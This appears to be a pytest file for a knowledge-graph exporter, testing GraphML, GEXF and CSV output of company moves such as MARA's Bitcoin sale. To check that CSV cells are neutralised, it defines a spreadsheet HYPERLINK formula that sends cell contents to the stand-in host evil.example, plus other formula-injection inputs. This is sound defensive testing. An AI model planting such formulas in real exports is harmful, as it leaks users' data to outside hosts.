"""Exports for other tools: GraphML and GEXF read back by networkx, the moves CSV by the csv module."""

from __future__ import annotations

import csv
import io

import networkx as nx
import pytest
from click.testing import CliRunner

from graph.export import MOVE_COLUMNS, knowledge_graph, spreadsheet_cell, write_gexf, write_graphml, write_moves_csv
from graph.store import Store
from minekg.cli import cli
from nlp.types import Amount, Article, CompanyRef, Evidence, Extraction, Move

MARA = "https://w3id.org/minekg/id/company/mara"
SEED_ARTICLE = "https://w3id.org/minekg/id/article/mara-ai-pivot"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full story")'


def _labelled(graph, node, label):
    """The targets of ``node``'s out-edges labelled ``label`` (a graph read back may or may not be a multigraph)."""
    return [v for _, v, edge in graph.out_edges(node, data="label") if edge == label]


def _read_csv(data: bytes) -> list[dict]:
    reader = csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""))
    assert tuple(reader.fieldnames) == MOVE_COLUMNS
    return list(reader)


# --- the sample articles and the seed ------------------------------------------------------


@pytest.fixture(scope="module")
def graphml(sample_store, tmp_path_factory):
    path = tmp_path_factory.mktemp("export") / "minekg.graphml"
    with open(path, "wb") as out:
        write_graphml(sample_store, out)
    return nx.read_graphml(path)


def test_graphml_holds_maras_bitcoin_sale_and_its_source(graphml):
    assert graphml.nodes[MARA] == {"label": "MARA Holdings", "kind": "Company", "ticker": "MARA", "category": "miner"}
    sales = [m for m in _labelled(graphml, MARA, "actor") if graphml.nodes[m].get("type") == "AssetSale"]
    seed_sales = [m for m in sales if _labelled(graphml, m, "source") == [SEED_ARTICLE]]
    (sale,) = [m for m in seed_sales if graphml.nodes[m].get("amount") == 1.5e9]
    move = graphml.nodes[sale]
    assert move["kind"] == "Move" and move["unit"] == "USD" and move["asset"] == "Bitcoin"
    assert move["modality"] == "asserted" and isinstance(move["confidence"], float)
    assert "1.5 billion" in move["sentence"]
    assert graphml.nodes[SEED_ARTICLE]["kind"] == "Article"
    trends = _labelled(graphml, sale, "part of trend")
    assert [graphml.nodes[t]["label"] for t in trends] == ["Bitcoin treasury sales"]


def test_graphml_has_every_kind_of_node_and_edge(graphml, sample_store):
    kinds = {kind for _, kind in graphml.nodes(data="kind")}
    labels = {label for *_, label in graphml.edges(data="label")}
    assert kinds == {"Company", "Move", "Article", "Trend"}
    assert labels == {"actor", "counterparty", "source", "part of trend", "peer of"}
    stats = sample_store.stats()
    moves = [n for n, kind in graphml.nodes(data="kind") if kind == "Move"]
    articles = [n for n, kind in graphml.nodes(data="kind") if kind == "Article"]
    assert len(moves) == stats["moves"] and len(articles) == stats["articles"] == 32
    # every move has exactly one actor and one source
    for move in moves:
        assert [graphml.nodes[u]["kind"] for u, _ in graphml.in_edges(move)] == ["Company"]
        assert len(_labelled(graphml, move, "source")) == 1
    roles = {role for _, _, role in graphml.edges(data="role") if role is not None}
    assert roles and roles <= {"buyer", "seller", "acquirer", "target", "client", "provider", "lender", "investor"}


def test_gexf_reads_back_with_the_same_nodes(sample_store, graphml, tmp_path):
    path = tmp_path / "minekg.gexf"
    with open(path, "wb") as out:
        write_gexf(sample_store, out)
    gexf = nx.read_gexf(path)
    assert gexf.number_of_nodes() == graphml.number_of_nodes() == knowledge_graph(sample_store).number_of_nodes()
    assert gexf.number_of_edges() == graphml.number_of_edges()
    assert gexf.nodes[MARA]["label"] == "MARA Holdings" and gexf.nodes[MARA]["kind"] == "Company"
    assert {label for *_, label in gexf.edges(data="label")} == {label for *_, label in graphml.edges(data="label")}


def test_csv_has_one_row_per_move_with_the_seeds_sale(sample_store):
    out = io.BytesIO()
    write_moves_csv(sample_store, out)
    rows = _read_csv(out.getvalue())
    assert len(rows) == len({row["move"] for row in rows}) == sample_store.stats()["moves"]
    (sale,) = [
        row
        for row in rows
        if row["company"] == MARA and row["type"] == "AssetSale" and row["article"] == SEED_ARTICLE
        if float(row["amount"] or 0) == 1.5e9
    ]
    assert sale["company_name"] == "MARA Holdings" and sale["unit"] == "USD" and sale["asset"] == "Bitcoin"
    assert "1.5 billion" in sale["sentence"] and sale["modality"] == "asserted"
    assert all(row["article"].startswith("https://w3id.org/minekg/id/article/") for row in rows)
    with_title = [row for row in rows if row["title"]]
    assert with_title and all(row["published"] for row in with_title)
    assert any(row["url"].startswith("https://") for row in with_title)


# --- a hand-made store ---------------------------------------------------------------------------


def _hostile(article_id: str = "hostile") -> Extraction:
    """An article whose text is written to attack spreadsheets and XML writers."""
    mara = CompanyRef("mara", "MARA Holdings", "MARA")
    riot = CompanyRef("riot", "Riot Platforms", "RIOT")
    moves = [
        Move("AssetSale", mara, Evidence(FORMULA, 0, len(FORMULA)), asset="Bitcoin", amount=Amount(-1.5, "BTC")),
        Move(
            "AssetPurchase",
            riot,
            Evidence("Riot bought 2 sites.", 80, 100),
            modality="planned",
            counterparty=mara,
            role="seller",
            asset="Site",
            date="2024-05",
        ),
    ]
    article = Article(article_id, "text", title="-2.5\x0b@SUM(A1:A9)", published="2024-05-02", url="https://x.test/a")
    return Extraction(article, moves=moves)


def test_csv_cells_cannot_run_as_formulas():
    store = Store(None)
    store.write_extraction(_hostile())
    out = io.BytesIO()
    write_moves_csv(store, out)
    rows = {row["type"]: row for row in _read_csv(out.getvalue())}
    sale, purchase = rows["AssetSale"], rows["AssetPurchase"]
    assert sale["sentence"] == "'" + FORMULA
    assert sale["amount"] == "-1.5" and sale["unit"] == "BTC"  # a negative number stays a number
    assert sale["title"] == "'-2.5\x0b@SUM(A1:A9)"  # starts with '-' but is no plain number
    assert purchase["counterparty"] == MARA and purchase["role"] == "seller" and purchase["date"] == "2024-05"
    assert purchase["modality"] == "planned" and purchase["sentence"] == "Riot bought 2 sites."
    assert sale["company_name"] == ""  # no registry in this store: the name is not invented


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-", "'-"),
        ("-1.5", "-1.5"),
        ("+3", "+3"),
        ("-2e3", "-2e3"),
        (-0.25, "-0.25"),
        (1.5e9, "1500000000.0"),
        ("MARA sold 1-2 sites", "MARA sold 1-2 sites"),
        (None, ""),
    ],
)
def test_spreadsheet_cell(value, cell):
    assert spreadsheet_cell(value) == cell


def test_text_xml_cannot_hold_is_replaced_in_graphml_and_gexf():
    store = Store(None)
    store.write_extraction(_hostile())
    for write, read in ((write_graphml, nx.read_graphml), (write_gexf, nx.read_gexf)):
        out = io.BytesIO()
        write(store, out)
        graph = read(io.BytesIO(out.getvalue()))
        article = graph.nodes["https://w3id.org/minekg/id/article/hostile"]
        assert article["title"] == "-2.5\ufffd@SUM(A1:A9)"
        assert graph.nodes[MARA]["label"] == "mara"  # no registry: the IRI's last part


def test_an_empty_store_exports_empty_files():
    store = Store(None)
    assert knowledge_graph(store).number_of_nodes() == 0
    out = io.BytesIO()
    write_moves_csv(store, out)
    assert _read_csv(out.getvalue()) == []
    out = io.BytesIO()
    write_graphml(store, out)
    assert nx.read_graphml(io.BytesIO(out.getvalue())).number_of_nodes() == 0


# --- the command line ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def store_path(tmp_path_factory) -> str:
    path = tmp_path_factory.mktemp("cli-export") / "store"
    store = Store(path)
    store.write_ontology()
    store.write_extraction(_hostile())
    store.flush()
    return str(path)


@pytest.mark.parametrize("fmt", ["graphml", "gexf", "csv"])
def test_cli_writes_each_format_to_a_file(store_path, tmp_path, fmt):
    out = tmp_path / f"minekg.{fmt}"
    result = CliRunner().invoke(cli, ["export", "--format", fmt, "-o", str(out), "--store", store_path])
    assert result.exit_code == 0, result.output
    if fmt == "csv":
        rows = _read_csv(out.read_bytes())
        assert {row["type"] for row in rows} == {"AssetSale", "AssetPurchase"}
        return
    graph = nx.read_graphml(out) if fmt == "graphml" else nx.read_gexf(out)
    kinds = sorted(kind for _, kind in graph.nodes(data="kind"))
    assert kinds == ["Article", "Company", "Company", "Move", "Move", "Trend"]
    assert [graph.nodes[t]["label"] for t in _labelled(graph, MARA, "actor")] == ["mara: AssetSale"]


def test_cli_writes_csv_to_stdout(store_path):
    result = CliRunner().invoke(cli, ["export", "--format", "csv", "--store", store_path])
    assert result.exit_code == 0
    assert result.output.startswith(",".join(MOVE_COLUMNS))
    assert "'" + FORMULA.replace('"', '""') in result.output


def test_cli_error_is_one_line(store_path, tmp_path):
    out = tmp_path / "no" / "such" / "dir" / "moves.csv"
    result = CliRunner().invoke(cli, ["export", "--format", "csv", "-o", str(out), "--store", store_path])
    assert result.exit_code == 1
    assert result.output.strip() == f"Error: {out}: No such file or directory"
